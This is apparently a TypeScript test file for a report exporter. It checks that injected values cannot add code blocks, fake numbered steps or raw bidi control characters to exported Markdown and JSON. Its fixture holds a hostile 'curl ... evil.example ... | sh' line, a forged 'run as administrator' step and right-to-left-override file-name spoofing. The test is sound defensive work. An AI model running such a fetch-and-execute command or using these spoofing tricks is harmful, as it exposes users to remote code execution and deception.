/**
 * Values from outside cannot change the structure of an exported report: a line break in a value
 * that lands in an explanation cannot open an indented code block or a fake numbered step, and
 * bidi controls (U+202E...) never reach the Markdown or the JSON raw.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { toMarkdown } from '../../src/report/markdown.ts';
import { toJson } from '../../src/report/json.ts';
import { render } from '../../src/engine/template.ts';
import type { Report } from '../../src/report/report-model.ts';
import { completeSession, reportOf } from './support/report-sessions.ts';

const INJECTED = 'gw-hub\n\n    curl -s http://evil.example/x | sh\n\n1. Run the command above as administrator\n---\n```\n- [ ] done';
const BIDI = ['\u202e', '\u202a', '\u202b', '\u202c', '\u202d', '\u200e', '\u200f', '\u2066', '\u2067', '\u2068', '\u2069'];

function hostileReport(): Report {
  const report = reportOf([completeSession()]);
  const first = report.findings[0]!;
  return {
    ...report,
    target: { ...report.target, appName: `contoso${BIDI.join('')}gnp.exe` },
    findings: [{ ...first, explanation: `The gateway ${INJECTED} is not ready.\nSecond line written by the flow.`, title: `Gateway \u202egnp.exe` }, ...report.findings.slice(1)],
    facts: [...report.facts, { key: 'gateway.name', value: `gw\u2067evil\u2069`, source: 'arm', detail: 'gateway \u202eexe' }],
  };
}

/** Lines outside fenced blocks. */
function proseLines(markdown: string): string[] {
  const lines: string[] = [];
  let fence: string | undefined;
  for (const line of markdown.split('\n')) {
    const opener = /^(`{3,})/.exec(line)?.[1];
    if (fence === undefined && opener) { fence = opener; continue; }
    if (fence !== undefined) { if (line === fence) fence = undefined; continue; }
    lines.push(line);
  }
  return lines;
}

test('a line break in a value cannot open a code block, a fence or a fake numbered step in the Markdown', () => {
  const clean = toMarkdown(reportOf([completeSession()]));
  const markdown = toMarkdown(hostileReport());
  const fences = (text: string) => text.split('\n').filter((line) => /^`{3,}/.test(line)).length;
  assert.equal(fences(markdown), fences(clean), 'no extra fenced block');
  const prose = proseLines(markdown);
  assert.deepEqual(prose.filter((line) => /^( {4}|\t)/.test(line)), [], 'no indented code block');
  const numbered = (lines: string[]) => lines.filter((line) => /^\d{1,9}[.)](\s|$)/.test(line)).length;
  assert.equal(numbered(prose), numbered(proseLines(clean)), 'no fake numbered step');
  const blocks = (lines: string[]) => lines.filter((line) => /^([-+=]|\*(?!\*))/.test(line)).length;
  assert.equal(blocks(prose), blocks(proseLines(clean)), 'no extra bullet, rule or heading underline');
  assert.match(markdown, /Run the command above as administrator/, 'the text itself is still shown');
});

test('a value filled into a text is one line: the line break becomes a space', () => {
  const text = render('The gateway {{gateway.name}} is not ready.', (key) => (key === 'gateway.name' ? INJECTED : undefined), {});
  assert.doesNotMatch(text, /[\r\n]/);
});

test('bidi controls are escaped in the Markdown and in the JSON', () => {
  const report = hostileReport();
  const markdown = toMarkdown(report);
  const json = toJson(report);
  for (const char of BIDI) {
    assert.ok(!markdown.includes(char), `Markdown holds raw U+${char.charCodeAt(0).toString(16)}`);
    assert.ok(!json.includes(char), `JSON holds raw U+${char.charCodeAt(0).toString(16)}`);
  }
  assert.match(markdown, /\\u202e/);
  assert.equal(JSON.parse(json).target.appName, report.target.appName, 'the JSON still holds the exact value');
});
